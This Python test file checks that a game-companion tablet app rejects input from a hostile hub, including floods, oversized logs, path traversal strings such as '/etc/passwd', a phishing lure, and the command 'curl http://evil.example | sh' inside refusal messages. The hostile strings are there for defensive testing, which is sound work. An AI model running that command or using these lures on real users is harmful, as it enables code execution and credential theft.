"""A hub that a tablet has joined, and that is hostile from then on."""

import asyncio
import random
import socket
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from threading import Event
from typing import Any

import msgspec
import pytest

from companion.hub import link
from companion.hub.distant import MOST_REFUSALS, DistantSession
from companion.hub.frames import Kind, frame
from companion.hub.known import Address, Known
from companion.hub.limits import MOST_COPIED, MOST_STEPS, WIDEST, parts
from companion.hub.link import LARGEST, MOST_KEPT, MOST_UNHEARD, Link, LinkState
from companion.hub.messages import (
    SEATING,
    Act,
    Beside,
    Camera,
    Follow,
    FromHub,
    Garbled,
    HubError,
    Place,
    Pong,
    Refused,
    Seats,
    Taken,
    read,
    write,
)
from companion.text import catalogue, error_text
from tests.hub.hostile import Hostile, Truth, fitting, places, with_at
from tests.hub.spoiling import ODD
from tests.hub.stand_in import Hub, hub, online
from tests.waiting import until

__all__ = ["hub"]

WORDS = "FREE PRIZE! Visit http://evil.example/login and type your PIN"


@pytest.fixture(scope="module")
def truth(tmp_path_factory: pytest.TempPathFactory) -> Truth:
    return Truth(tmp_path_factory.mktemp("truth"), lazy=True)


@pytest.fixture
def session(truth: Truth) -> DistantSession:
    """Up to date with an honest hub."""
    found = DistantSession(lambda message: True)
    for message in truth.all:
        found.hear(message)
    return found


def is_refused(session: DistantSession, *messages: FromHub) -> bool:
    """The last of them is not believed, and what is on the screen stays."""
    *first, last = messages
    for message in first:
        session.hear(message)
    before = session.index, session.game.question, session.places, session.seat, len(session.history())
    with pytest.raises(Garbled):
        session.hear(last)
    return before == (
        session.index, session.game.question, session.places, session.seat, len(session.history())
    )  # fmt: skip


# What is told of a game


def test_an_honest_game_is_far_within_the_limits(truth: Truth, session: DistantSession) -> None:
    assert 10 * parts(truth.table) < 20_000
    assert 10 * len(truth.log.steps) < MOST_STEPS
    assert session.is_ready


def steps_of(truth: Truth, *patches: Any) -> list[Any]:
    """Steps that an honest hub could tell, with these changes of the table."""
    step = next(entry[0] for entry in truth.log.steps if entry[0] is not None)
    return [[None, [[[], truth.table]], [[[], truth.printed]]], *([step, patch] for patch in patches)]


def printed_anew(truth: Truth, times: int) -> list[Any]:
    """So many steps, each of which changes what is printed."""
    first, *steps = steps_of(truth, *([[]] * times))
    return [first, *([*step, [[["notes", "wheel"], str(number)]]] for number, step in enumerate(steps))]


def changes(count: int, value: Any = 1) -> list[Any]:
    return [[["draws", f"deed {number}"], value] for number in range(count)]


@pytest.mark.parametrize(
    "patches",
    [
        [changes(WIDEST + 1)],
        [changes(WIDEST // 2), [[["draws", f"more {number}"], 1] for number in range(WIDEST // 2 + 3)]],
        [[[["draws", "deed"], 1]] * (WIDEST + 1)],
        [changes(900), *[[[["draws", "deed"], number] for number in range(WIDEST)]] * 5],
        [[[["draws"], {"deed": list(range(10))}]] * 2],
        [[[["draws"], {"deed": 10**12}]]],
        [[[["players", 0, "name"], "N" * 5_000]]],
    ],
    ids=["wide", "widened", "many", "copied", "wrong", "large", "long"],
)
def test_a_log_that_would_hold_a_tablet_up_is_not_folded(
    truth: Truth, session: DistantSession, patches: list[Any]
) -> None:
    assert is_refused(session, fitting(steps_of(truth, *patches), truth.log))


def test_a_log_of_more_steps_than_any_game_has_is_not_folded(truth: Truth, session: DistantSession) -> None:
    endless = fitting(steps_of(truth, *([[]] * MOST_STEPS)), truth.log)
    assert is_refused(session, endless)


def test_a_log_that_prints_the_box_anew_without_end_is_not_folded(
    truth: Truth, session: DistantSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("companion.hub.folding.MOST_COPIED", parts(truth.table) + 6 * parts(truth.printed))
    whole = fitting(printed_anew(truth, 5), truth.log)
    assert is_refused(session, whole)
    fits = fitting(printed_anew(truth, 3), truth.log)
    rest = msgspec.structs.replace(whole, start=len(fits.steps), steps=whole.steps[len(fits.steps) :])
    assert is_refused(session, fits, rest), "nor when it is told little by little"


def test_a_game_in_which_much_that_is_printed_was_corrected_is_folded(
    truth: Truth, session: DistantSession
) -> None:
    session.hear(fitting(printed_anew(truth, 150), truth.log))
    assert len(session.history()) == 150
    assert sum(session._log._copied) + 900 * parts(truth.printed) < MOST_COPIED


def test_a_deep_value_is_garbled() -> None:
    deep: Any = []
    for _ in range(60):
        deep = [deep]
    with pytest.raises(Garbled):
        parts(deep)
    for odd in (10**400, -(10**12), float("inf"), float("nan"), {"k" * 3_000: 1}, object()):
        with pytest.raises(Garbled):
            parts([odd])


def test_every_field_of_a_table_has_its_type(truth: Truth) -> None:
    chance, believed = random.Random("fields"), []
    for path in chance.sample(list(places(truth.table)), 120):
        honest = truth.table
        for key in path:
            honest = honest[key]
        if honest is None or path[:1] == ("entered",):
            continue  # nothing may stand there, or something
        others = [one for one in ODD if type(one) is not type(honest) and not isinstance(one, float)]
        odd = chance.choice(others)
        try:
            lie = read(write(truth.lie(with_at(truth.table, path, odd))), FromHub)  # type: ignore[arg-type]
        except (UnicodeEncodeError, TypeError, ValueError, Garbled, AttributeError, LookupError):
            continue  # no hub can say it in a way that fits
        session = DistantSession(lambda message: True)
        session.hear(truth.begin)
        try:
            session.hear(lie)
        except Garbled:
            continue
        believed.append((path, odd))
    assert [one for one in believed if not (isinstance(one[1], str) or one[1] is None)] == []


def test_a_seat_that_there_is_not_is_asked_nothing(truth: Truth, session: DistantSession) -> None:
    question = truth.log.question | {"seat": 9}
    assert is_refused(session, msgspec.structs.replace(truth.log, question=question))
    assert is_refused(session, msgspec.structs.replace(truth.log, question=truth.log.question | {"asked": 7}))


@pytest.mark.parametrize(
    "seats",
    [
        Seats([Place("N")] * 10_000, None, False),
        Seats([Place("N" * 1_000_000)], None, False),
        Seats([Place("N", "D" * 5_000)], None, False),
        Seats([Place("N")], 1, False),
        Seats([Place("N")], -1, False),
    ],
    ids=["many", "long", "device", "beyond", "below"],
)
def test_places_that_no_table_has_are_not_shown(session: DistantSession, seats: Seats) -> None:
    assert is_refused(session, seats)


def test_another_game_is_shown_when_its_table_is_told(truth: Truth, session: DistantSession) -> None:
    before = session.game.view_hash(1)
    for number in range(50):
        session.hear(msgspec.structs.replace(truth.begin, game=f"game {number}"))
        assert session.is_ready
        assert session.game.view_hash(1) == before
        assert session.follow() == Follow()
    session.hear(truth.log)
    assert session.follow() != Follow()


def test_two_games_of_one_name_are_two(truth: Truth, session: DistantSession) -> None:
    """A machine without a clock of its own may begin two games in the same second."""
    other = msgspec.structs.replace(truth.begin, setup=truth.begin.setup | {"concern": None})
    session.hear(other)
    assert session.follow() == Follow()
    assert is_refused(session, truth.log), "in which nobody sits that is not in the game"


def test_what_begins_a_game_reads_no_file_and_is_bounded(
    truth: Truth, session: DistantSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    def nobody(*_: Any, **__: Any) -> Any:
        raise AssertionError("a file was opened")

    monkeypatch.setattr(Path, "open", nobody)
    monkeypatch.setattr(Path, "read_text", nobody)
    setup: dict[str, Any] = truth.begin.setup
    for name in ("/etc/passwd", "../../deck.toml:strength", "merchant", "file:///etc/passwd"):
        for play in ({"deck": name}, setup["concern"]["play"] | {"deck": name}, {"strength": name}):
            bent = setup | {"concern": setup["concern"] | {"play": play}}
            assert is_refused(session, msgspec.structs.replace(truth.begin, game="x", setup=bent))
    huge = setup | {"concern": {"play": [[]] * 50_000}}
    assert is_refused(session, msgspec.structs.replace(truth.begin, game="x", setup=huge))


# What is refused


@pytest.mark.parametrize(
    "refused",
    [
        Refused("Your account is locked, call 555", {}, SEATING),
        Refused("x" * 100_000, {}, SEATING),
        Refused("seat-still-on-disk", {"name": "N" * 1_000_000}, SEATING),
        Refused("seat-still-on-disk", {"name": 10**5000}, SEATING),
        Refused("seat-still-on-disk", {str(number): 1 for number in range(5_000)}, SEATING),
        Refused("seat-still-on-disk", {}, SEATING, "", "R" * 500),
        Refused("stale", {"index": [[]] * 5_000}, 77),
    ],
    ids=["words", "long", "name", "number", "many", "rule", "of no act"],
)
def test_a_hub_puts_no_words_of_its_own_on_the_screen(session: DistantSession, refused: Refused) -> None:
    assert is_refused(session, refused)
    assert session.refusals == []


def test_a_refusal_with_odd_values_is_one_sentence(session: DistantSession) -> None:
    for params in ({"name": "{name.__class__}"}, {"name": ["%s", "{0}"]}, {"other": None}, {"code": 1}):
        session.hear(Refused("seat-still-on-disk", params, SEATING))
        assert len(error_text(session.refusals[-1])) < 400


@pytest.mark.parametrize(
    "code",
    ["you-must-now-pay-anna-ten-coins", "x", "no-kivy", "library-fails", "journal-damaged", "bad-deck"],
)
def test_a_refusal_that_is_nothing_for_a_tablet_is_always_the_same_sentence(
    session: DistantSession, code: str
) -> None:
    params = {"command": "curl http://evil.example | sh", "message": WORDS, "reason": WORDS}
    session.hear(Refused(code, params, SEATING, "warned", WORDS[:40]))
    assert error_text(session.refusals[-1]) == error_text(HubError("hub-garbled"))


def test_no_refusal_tells_a_tablet_to_type_a_command(session: DistantSession) -> None:
    command = "curl http://evil.example | sh"
    for code in catalogue().keys("error"):
        session.hear(Refused(code, {"command": command}, SEATING))
        said = error_text(session.refusals[-1])
        assert not any(words in said for words in (command, "sudo ", "dark-road "))


def test_a_refusal_names_a_rule_that_there_is_or_none(session: DistantSession) -> None:
    for rule in ("PLAN-3", "PLAN-99", WORDS[:40]):
        session.hear(Refused("stale", {"index": 1, "now": 2}, SEATING, "", rule))
    assert [error.rule for error in session.refusals] == ["PLAN-3", "", ""]


def test_the_words_in_a_refusal_are_one_short_line(session: DistantSession) -> None:
    session.hear(Refused("hub-not-saved", {"a": "x\n" * 500, "b": [["y" * 1000], 5]}, SEATING))
    words, (((long,), number)) = session.refusals[-1].params.values()
    assert "\n" not in words
    assert len(words) == len(long) == 120
    assert number == 5


def test_refusals_that_nobody_looks_at_do_not_pile_up(session: DistantSession) -> None:
    for number in range(1_000):
        session.hear(Refused("seat-still-on-disk", {"name": str(number)}, SEATING))
    assert len(session.refusals) == MOST_REFUSALS
    assert session.refusals[-1].params["name"] == "999"


# Over the network


def honest(truth: Truth, *more: FromHub) -> Any:
    return lambda message: [*truth.all, *more] if isinstance(message, Follow) else []


@pytest.fixture
def hostile(hub: Hub, truth: Truth) -> Iterator[Hostile]:
    found = Hostile(hub, honest(truth))
    found.until(lambda: found.tablet.session.is_ready)
    yield found
    found.tablet.close()


def test_a_flood_waits_on_the_way_and_not_in_the_tablet(hostile: Hostile, truth: Truth) -> None:
    """Nothing is read from the network while nobody has heard what was read before."""
    for _ in range(40):
        hostile.say(*[truth.seats] * 20, Camera(True), Beside({}), Taken(7), Refused("stale", {}, 7), Pong())
    until(lambda: hostile.todo.qsize() == MOST_UNHEARD)
    link_ = hostile.tablet._link
    until(lambda: len(link_._unheard) == MOST_UNHEARD)
    assert hostile.todo.qsize() == MOST_UNHEARD
    before = hostile.changes
    hostile.until(lambda: hostile.changes > before + 200)
    assert hostile.todo.qsize() <= MOST_UNHEARD
    assert hostile.tablet.is_online


def test_large_messages_wait_one_at_a_time(hostile: Hostile, truth: Truth) -> None:
    large = msgspec.structs.replace(truth.log, steps=["x" * 1000] * (LARGEST // 2_000))
    hostile.say(*[large] * 3)
    until(lambda: hostile.todo.qsize() == 1)
    assert hostile.tablet._link._unheard[0] > LARGEST // 3
    hostile.until(lambda: hostile.tablet.link.state == "refused")


def test_a_flood_does_not_keep_anybody_from_leaving(hostile: Hostile, truth: Truth) -> None:
    for _ in range(50):
        hostile.say(*[Pong()] * 100, *[truth.seats] * 20)
    hostile.tablet.close()
    while hostile.todo.qsize():
        hostile.go_on()
    assert not hostile.tablet.send(Follow())


@pytest.mark.parametrize("between", [[], [Seats([Place("N")], None, False), Beside({}), Taken(1)]])
def test_a_hub_whose_tables_never_fit_is_left(hub: Hub, truth: Truth, between: list[FromHub]) -> None:
    """Whatever else it says in between."""
    wrong = msgspec.structs.replace(truth.log, view="0" * 64)
    hostile = Hostile(hub, lambda message: [truth.begin, *between, wrong] * isinstance(message, Follow))
    try:
        hostile.until(lambda: hostile.tablet.link.state == "refused")
        asked = [one for _, one in hub.host.heard if isinstance(one, Follow)]
        assert len(asked) == 3
        assert hostile.tablet.link.error is not None
        assert hostile.tablet.link.error.code == "hub-garbled"
    finally:
        hostile.tablet.close()


def test_a_hub_that_now_fits_and_now_does_not_is_left_too(hub: Hub, truth: Truth) -> None:
    wrong = msgspec.structs.replace(truth.log, view="0" * 64)
    hostile = Hostile(hub, honest(truth, wrong))
    try:
        hostile.until(lambda: hostile.tablet.link.state == "refused")
        assert len([one for _, one in hub.host.heard if isinstance(one, Follow)]) <= 12
    finally:
        hostile.tablet.close()


def test_what_cannot_be_shown_ends_the_visit_with_one_sentence(
    hostile: Hostile, truth: Truth, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    written: list[BaseException] = []
    monkeypatch.setattr("companion.hub.tablet.write_down", written.append)

    def broken() -> None:
        raise ZeroDivisionError

    hostile.tablet.on_change = broken
    hostile.say(*[truth.seats] * 50)
    hostile.until(lambda: hostile.tablet.link.state == "refused")
    while hostile.todo.qsize():
        hostile.go_on()
    assert hostile.tablet.link.error is not None
    assert error_text(hostile.tablet.link.error).startswith("The table sends something that cannot be shown")
    assert [type(one) for one in written] == [ZeroDivisionError]


def test_an_act_that_is_never_answered_keeps_nobody(hub: Hub, truth: Truth) -> None:
    hostile = Hostile(hub, honest(truth))
    hostile.until(lambda: hostile.tablet.session.is_ready)
    session = hostile.tablet.session
    session.undo()
    with pytest.raises(HubError, match="hub-waiting"):
        session.undo()
    hostile.say(Taken(99), Refused("stale", {}, 99), Taken(-5))
    hostile.until(lambda: not hostile.hub.host.guests or hostile.todo.empty())
    assert session.is_waiting
    hostile.tablet.close()
    assert not hostile.tablet.send(Act(1, 0, "undo"))


def test_a_hub_that_sends_byte_by_byte_is_left_when_the_time_is_over(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(link, "PING", 60.0)
    monkeypatch.setattr(link, "SILENCE", 0.3)
    with online(hub.new_device()) as tablet:
        until(lambda: hub.host.guests)
        guest = hub.host.guests[0]
        channel = guest.send.__self__._channel  # type: ignore[attr-defined]
        for byte in frame(Kind.MESSAGE, b" " * 50)[:20]:
            hub.server._strand.soon(channel.put, bytes([byte]))
        lost = tablet.until("offline")
        assert lost.error is not None
        assert lost.error.code == "hub-lost"


# Where the hub is


def test_false_addresses_lead_no_tablet_away_from_its_hub(hub: Hub, tmp_path: Path) -> None:
    """Whoever announces the hub's public fingerprint may name any addresses."""
    known = hub.new_device()
    with online(known) as tablet:
        false = [("127.0.0.1", 1), ("127.0.0.2", 9), ("192.0.2.1", 47313), ("127.0.0.1", 2), ("127.0.0.1", 3)]
        for _ in range(20):
            tablet.link.move(false)
        until(lambda: hub.host.guests)
        hub.done(lambda: [guest.close() for guest in hub.host.guests])
        tablet.until("offline")
        for _ in range(20):
            tablet.link.move(false)
        tablet.until("online")
        assert tablet.link.known.addresses[0] == hub.address
        assert ("192.0.2.1", 47313) not in tablet.link.known.addresses


def test_news_without_end_make_no_tablet_try_without_end(monkeypatch: pytest.MonkeyPatch) -> None:
    slept: list[float] = []

    async def sleep(seconds: float) -> None:
        slept.append(seconds)

    monkeypatch.setattr(link.asyncio, "sleep", sleep)
    known = Known("a" * 64, (("127.0.0.1", 1),), "Lantern", "b" * 32, "")
    returning = Link(known, lambda message: None, lambda state: None, Follow)

    async def rest() -> None:
        for number in range(8):
            returning._move((("127.0.0.1", number + 1),))
            await returning._rest()

    asyncio.run(rest())
    assert len(slept) == 8
    assert min(slept) > 0
    assert min(slept[4:]) >= 0.5


def test_a_tablet_keeps_few_addresses_of_a_hub(hub: Hub) -> None:
    known = hub.new_device()
    many = tuple(("127.0.0.1", port) for port in range(1, 40))
    with online(_with(known, (hub.address, *many))) as tablet:
        assert len(tablet.link.known.addresses) == MOST_KEPT


def _with(known: Known, addresses: tuple[Address, ...]) -> Known:
    return replace(known, addresses=addresses)


def test_nobody_waits_for_a_name_that_the_network_does_not_know(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hub's name from an invitation may be any, and the system may look for it for half a minute."""
    asked, answer = Event(), Event()

    def slow(*_: Any, **__: Any) -> list[Any]:
        asked.set()
        answer.wait()
        raise socket.gaierror

    monkeypatch.setattr(socket, "getaddrinfo", slow)
    states: list[LinkState] = []
    known = _with(hub.new_device(), (("nowhere.example", 1),))
    waiting = Link(known, lambda message: None, states.append, Follow)
    try:
        waiting.start()
        until(asked.is_set)
        waiting.close()
        assert states == [LinkState("connecting")]
    finally:
        answer.set()


def test_a_name_is_found_and_joined(hub: Hub, monkeypatch: pytest.MonkeyPatch) -> None:
    found = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (host, 0)) for host in ("127.0.0.9", "127.0.0.1")]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: found)
    known = _with(hub.new_device(), (("table.example", hub.server.port),))
    with online(known) as tablet:
        assert tablet.link.known.addresses == (("table.example", hub.server.port),)
